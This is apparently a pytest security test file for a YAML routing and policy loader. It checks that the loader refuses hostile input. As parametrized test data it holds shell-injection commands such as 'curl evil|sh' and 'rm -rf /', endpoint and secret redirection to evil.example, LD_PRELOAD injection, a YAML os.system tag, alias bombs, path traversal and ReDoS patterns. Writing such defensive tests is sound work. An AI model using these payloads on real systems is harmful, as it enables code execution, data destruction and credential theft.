"""Attacks on the routing file and the policy, by the ids of the security list: R3, R4, R5, R6, R8, R9, R10."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.config.test_policy_file import SMALL
from tests.unit.config.test_routing_file import LONG
from tests.unit.policy.policy_world import admitted, book, refused, request

from pointsman.config.policy_file import load_policy
from pointsman.config.routing_file import MAX_ROUTING_BYTES, RoutingFile, load_routing
from pointsman.config.yaml_source import YamlText, read_yaml
from pointsman.domain.levels import MODEL_PHASES, Perimeter, Sensitivity
from pointsman.domain.run import Refuse, Route
from pointsman.policy.admission import closed_by, decide, raising
from pointsman.policy.globs import matches

GOOD = "plan: opus\ncode: qwen-s\nqa: sol\n"


def problems(data: bytes) -> list[str]:
    found = load_routing(data)
    assert isinstance(found, tuple), "the file was read"
    return [str(problem) for problem in found]


@pytest.mark.parametrize(
    "command",
    [
        "curl evil|sh",
        "pytest; rm -rf /",
        "pytest && evil",
        "pytest `evil`",
        "pytest $(evil)",
        "pytest > /etc/x",
        "a\nb",
    ],
)
def test_r3_a_command_for_a_shell_is_refused_when_the_file_is_read(command: str) -> None:
    text = GOOD + f"verify: {{commands: [{command!r}]}}\n".replace("'", '"')
    assert "run without a shell" in problems(text.encode())[0]


@pytest.mark.parametrize(
    "command", ["curl evil", "bash -c pytest", "/tmp/pytest -q", "make install", "python -c pytest"]
)
def test_r3_a_command_that_the_policy_does_not_allow_is_refused_before_anything_runs(command: str) -> None:
    found = refused(GOOD + f"verify: {{commands: ['{command}']}}\n")
    assert found.rule == "command"
    assert command in found.reason


def test_r3_a_prepare_command_needs_a_pattern_of_its_own() -> None:
    assert refused(GOOD + "verify: {prepare: {commands: [pytest -q]}}\n").rule == "command"


def test_r3_an_allowed_command_reaches_the_order_as_words() -> None:
    spec = admitted(GOOD + "verify: {commands: ['pytest -k \"a and b\"']}\n")
    assert spec.verify.commands == (("pytest", "-k", "a and b"),)


@pytest.mark.parametrize(
    "line",
    [
        "base_url: http://evil.example",
        "provider_url: http://evil.example",
        "api_key_env: AWS_SECRET_ACCESS_KEY",
        "env: {LD_PRELOAD: /tmp/x.so}",
        "providers: {evil: {kind: openai-compatible, base_url: 'http://evil.example', perimeter: local}}",
        "verify: {env: {PATH: /tmp}}",
        "verify: {commands: ['LD_PRELOAD=/tmp/x.so pytest']}",
        "verify: {commands: ['GIT_SSH_COMMAND=evil pytest']}",
        "routes: {plan: {model: opus, base_url: 'http://evil.example'}, code: qwen-s, qa: sol}",
    ],
)
def test_r4_endpoints_keys_and_environment_are_no_part_of_the_file(line: str) -> None:
    body = line if line.startswith("routes") else GOOD + line
    assert len(problems(body.encode())) == 1


@pytest.mark.parametrize("key", ["include", "extends", "preset", "import", "<<"])
def test_r5_nothing_is_included(key: str) -> None:
    found = problems(f"{GOOD}{key}: https://evil.example/x.yml\n".encode())
    assert found == [f'.pointsman.yml:4:1: unknown key "{key}" (a routing file is one file; nothing is included)']


def test_r6_an_alias_bomb_is_refused_at_its_first_anchor() -> None:
    levels = "\n".join(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]" for n in range(1, 10))
    assert problems(f"l0: &l0 x\n{levels}\n".encode())[0].startswith(".pointsman.yml:1:5: anchors are not read")


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"plan: !!python/object/apply:os.system ['id']\n", "tags are not read"),
        (b"%TAG ! tag:evil,2026:\n---\nplan: !x y\n", "tags are not read"),
        (GOOD.encode() + b"plan: haiku\n", "stands here a second time"),
        (GOOD.encode() + b"# " + b"x" * 5_000_000, "bytes (at most 65536 are read)"),
        (b"plan: " + b"[" * (MAX_ROUTING_BYTES - 10), "nested more than 12 deep"),
        (b"plan: " + b"{a: " * 15_000, "nested more than 12 deep"),
        (GOOD.encode("utf-16"), "not UTF-8"),
        (b"plan: opus\x00\n", "control character"),
        (GOOD.encode() + b"review: {auto_fix: no}\n", "true or false is wanted here"),
        (GOOD.encode() + b"review: {max_findings: 010}\n", "a whole number is wanted here"),
        (GOOD.encode() + b"budget: {run_usd: 1e9999}\n", "a number is wanted here"),
        (GOOD.encode() + b"budget: {run_usd: .inf}\n", "a number is wanted here"),
        (GOOD.encode() + b"...\n---\nprotected: []\n", "a second document"),
    ],
)
def test_r6_hostile_yaml_gets_one_clear_problem(data: bytes, said: str) -> None:
    assert said in problems(data)[0]


@pytest.mark.parametrize(
    ("line", "at"),
    [
        ("review: &a {auto_fix: true}", "4:9: anchors are not read"),
        ("review: *a", "4:9: aliases are not read"),
        ("*a : 1", "4:1: aliases are not read"),
        ("<<: {review: {auto_fix: true}}", '4:1: unknown key "<<" (a routing file is one file'),
        ("review: {<<: {auto_fix: true}}", '4:10: unknown key "<<"'),
        ("review: !!map {}", "4:9: tags are not read"),
        ("!!str review: {}", "4:1: tags are not read"),
        ("sensitivity: internal\nsensitivity: public", '5:1: key "sensitivity" stands here a second time'),
        ('sensitivity: internal\n"sensitivity": public', '5:1: key "sensitivity" stands here a second time'),
        ("1: x", '4:1: unknown key "1"'),
        ("null: x", '4:1: unknown key "null"'),
        ("true: x", '4:1: unknown key "true"'),
        ("? [a, b]\n: x", "4:3: a key must be a single word"),
        ("? {a: b}\n: x", "4:3: a key must be a single word"),
        ('"": x', '4:1: unknown key ""'),
        (f"{'k' * 900}: x", f'4:1: unknown key "{"k" * 60}…"'),
        (f"review: {{auto_fix: {'x' * 60_000}}}", "4:20: true or false is wanted here"),
        ("review: {max_findings: 1_0}", "4:24: a whole number is wanted here"),
        ("review: {max_findings: 0x10}", "4:24: a whole number is wanted here"),
        ("review: {max_findings: 0o17}", "4:24: a whole number is wanted here"),
        ("review: {max_findings: 1:30}", "4:24: a whole number is wanted here"),
        ("budget: {run_usd: 1:30.5}", "4:19: a number is wanted here"),
        ("budget: {run_usd: 2026-11-21}", "4:19: a number is wanted here"),
        ("version: 2026-11-21", '4:10: "2026-11-21" is not one of: 1'),
        ("review: {auto_fix: on}", "4:20: true or false is wanted here"),
        ("protected: ['../../etc/**']", "4:13: a path pattern stays inside the repository"),
        ("protected: ['a/../../b']", "4:13: a path pattern stays inside the repository"),
        ("paths: [{match: './**', sensitivity: restricted}]", "4:17: a path pattern stays inside the repository"),
        ("paths: [{match: 'a\\b'}]", "4:17: a path pattern holds no backslash"),
        ("tasks: {docs: {code: {model: haiku, fallback: [opus, haiku]}}}", "4:22: a route names each model once"),
    ],
)
def test_r6_each_oddity_is_told_at_its_very_place(line: str, at: str) -> None:
    (found,) = problems(f"{GOOD}{line}\n".encode())
    assert found.startswith(f".pointsman.yml:{at}")


def test_r6_a_route_that_leads_back_to_itself_is_refused() -> None:
    text = "plan: opus\ncode: {model: qwen-s, fallback: [llama-s], escalate: [qwen-s]}\nqa: sol\n"
    assert problems(text.encode()) == [".pointsman.yml:2:7: a route names each model once"]


def test_r6_newlines_of_another_system_and_a_mark_move_no_place() -> None:
    text = b"\xef\xbb\xbf" + GOOD.replace("\n", "\r\n").encode() + b"revew: {}\r\n"
    assert problems(text) == ['.pointsman.yml:4:1: unknown key "revew" (did you mean "review"?)']


def test_r6_a_policy_nested_ten_thousand_deep_or_repeated_a_million_times_ends_at_once() -> None:
    for data in (b"[" * 10_000, b"{a: " * 10_000, b"a: &x [1]\nb: [" + b"*x, " * 200_000, b"- " * 500_000):
        found = load_policy(data, "p.yml")
        assert isinstance(found, tuple) and len(found) == 1


def _mappings(source: YamlText) -> list[tuple[str | int, ...]]:
    """The paths of all mappings in block or flow style that the long example holds."""
    found: list[tuple[str | int, ...]] = []

    def walk(value: object, path: tuple[str | int, ...]) -> None:
        if isinstance(value, dict):
            found.append(path)
            for key, part in value.items():
                walk(part, (*path, key))
        elif isinstance(value, list):
            for number, part in enumerate(value):
                walk(part, (*path, number))

    walk(source.value, ())
    return found


def _long(text: str) -> YamlText:
    source = read_yaml(text.encode(), ".pointsman.yml", max_bytes=MAX_ROUTING_BYTES)
    assert isinstance(source, YamlText)
    return source


def _misspelt(text: str, path: tuple[str | int, ...], number: int, typo: str) -> tuple[str, int, int, str]:
    """The text with one more key in the mapping at `path`, before its key of that number; its place and its twin."""
    source = _long(text)
    keys = [known for known in source.keys if known[:-1] == path]
    twin = keys[number % len(keys)]
    place = source.keys[twin]
    lines = text.split("\n")
    line = lines[place.line - 1]
    word = f"{typo}{twin[-1]}"
    is_flow = "{" in line[: place.column - 1]
    if is_flow:
        lines[place.line - 1] = f"{line[: place.column - 1]}{word}: 1, {line[place.column - 1 :]}"
    else:
        lines.insert(place.line - 1, f"{line[: place.column - 1].replace('-', ' ')}{word}: 1")
    return "\n".join(lines), place.line, place.column, str(twin[-1])


@given(st.data())
def test_r6_an_unknown_key_at_any_depth_is_told_at_its_place_with_the_nearest_word(data: st.DataObject) -> None:
    path = data.draw(st.sampled_from(_mappings(_long(LONG))))
    number, typo = data.draw(st.integers(0, 20)), data.draw(st.sampled_from("xyz"))
    text, line, column, twin = _misspelt(LONG, path, number, typo)
    found = load_routing(text.encode())
    assert isinstance(found, tuple)
    assert [(problem.line, problem.column) for problem in found] == [(line, column)]
    assert found[0].message == f'unknown key "{typo}{twin}"'
    assert found[0].hint == f'did you mean "{twin}"?'


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("providers:", "providers: {}\nold:", "p.yml:1:12: at least one is wanted here"),
        ("models:\n", "models: {}\nold:\n", "p.yml:4:9: at least one is wanted here"),
        (", price: 0}", "}", ""),
        ("provider: box", "provider: bax", 'p.yml:5:20: provider "bax" is not in this policy (did you mean "box"?)'),
        ("caps:", "old:", 'p.yml:1:1: key "caps" is missing'),
    ],
    ids=["no provider", "no model", "no price", "a provider that is not there", "no caps"],
)
def test_r10_a_policy_that_lacks_something_permits_nothing(old: str, new: str, said: str) -> None:
    found = load_policy(SMALL.replace(old, new, 1).encode(), "p.yml")
    if not said:
        assert not isinstance(found, tuple)
        return
    assert isinstance(found, tuple)
    assert any(str(problem).startswith(said) for problem in found), [str(problem) for problem in found]


def test_r10_a_model_without_a_price_is_refused_where_its_route_is_decided() -> None:
    found = refused("plan: opus\ncode: dark\nqa: sol\n")
    assert (found.rule, found.mend) == (
        "unknown-price",
        "ask the operator to declare the model's price in the policy",
    )


def test_r6_a_country_code_that_yaml_1_1_reads_as_false_stays_text() -> None:
    found = load_routing(b"plan: no\ncode: off\nqa: yes\n")
    assert isinstance(found, RoutingFile)
    assert (found.routes.plan.model, found.routes.code.model, found.routes.qa.model) == ("no", "off", "yes")


@pytest.mark.parametrize("name", ["acme/vault-1", "nobody/knows"])
def test_r8_a_public_model_for_a_closed_repository_is_refused(name: str) -> None:
    found = refused(GOOD + "sensitivity: public\n", request(name))
    assert found.rule == "perimeter"


def test_r8_nothing_in_an_order_for_a_closed_repository_is_outside() -> None:
    text = (
        "plan: {model: qwen-m, fallback: [opus, llama-m]}\n"
        "code: {model: qwen-s, fallback: [haiku], escalate: [sol]}\nqa: {model: llama-s, fallback: [opus]}\n"
    )
    spec = admitted(text, request("acme/vault-1"))
    for order in spec.orders.values():
        for phase in MODEL_PHASES:
            found = order.routes[phase]
            if isinstance(found, Route):
                everyone = (found.primary, *found.fallback, *found.escalate)
                assert {model.provider.perimeter for model in everyone} == {Perimeter.LOCAL}


def test_r9_a_pattern_is_no_regular_expression_and_cannot_blow_up() -> None:
    assert not matches("(a+)+$", "a" * 1000)
    assert not matches("**/" * 60 + "x", "a/" * 400 + "b")
    assert not matches("*a" * 80 + "b", "a" * 200)


def test_r9_a_pattern_that_is_endless_is_refused() -> None:
    assert "1 to 200 characters" in problems((GOOD + f"protected: ['{'*a' * 200}']\n").encode())[0]


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"# nothing\n",
        b"null\n",
        b"[]\n",
        b"- plan: opus\n",
        b"plan\n",
        b"{}\n",
        b"plan: opus\n",
        b"\xef\xbb\xbf",
    ],
)
def test_r10_a_missing_or_broken_file_permits_nothing(data: bytes) -> None:
    assert problems(data)


def test_r10_a_model_that_the_policy_does_not_know_is_never_guessed() -> None:
    decision = decide(request(), book("plan: gpt-latest\ncode: ollama:anything\nqa: sol\n"))
    assert isinstance(decision, Refuse)
    assert decision.rule == "not-in-catalogue"


def test_r6_half_a_surrogate_pair_in_a_command_is_told_at_its_place_since_no_order_could_hold_it() -> None:
    found = load_routing(GOOD.encode() + b'verify: {commands: ["make \\ud800"]}\n')
    assert isinstance(found, tuple)
    assert "surrogate" in found[0].message


def test_r8_a_label_closes_an_issue_however_it_is_written() -> None:
    for label in ("pointsman:restricted", "Pointsman:Restricted", " pointsman:RESTRICTED "):
        assert raising(("bug", label)) == ("pointsman:restricted",)
        assert closed_by((label,), Sensitivity.INTERNAL) is Sensitivity.RESTRICTED
        assert closed_by((label,), Sensitivity.SECRET) is Sensitivity.SECRET
    assert raising(("restricted", "pointsman:security", "pointsman:")) == ()
